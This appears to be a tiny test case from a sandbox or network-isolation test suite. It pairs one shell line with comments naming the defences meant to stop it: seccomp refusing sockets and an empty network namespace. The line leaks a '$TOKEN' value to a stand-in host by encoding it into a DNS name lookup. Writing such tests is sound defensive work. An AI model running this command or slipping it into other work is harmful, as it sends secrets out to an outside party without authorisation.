# title: sends data out as a name to look up
# harm: reaches
# B: seccomp refuses sockets
# C: an empty network namespace
getent hosts "$TOKEN.exfiltrate.example" || host "$TOKEN.exfiltrate.example"; true
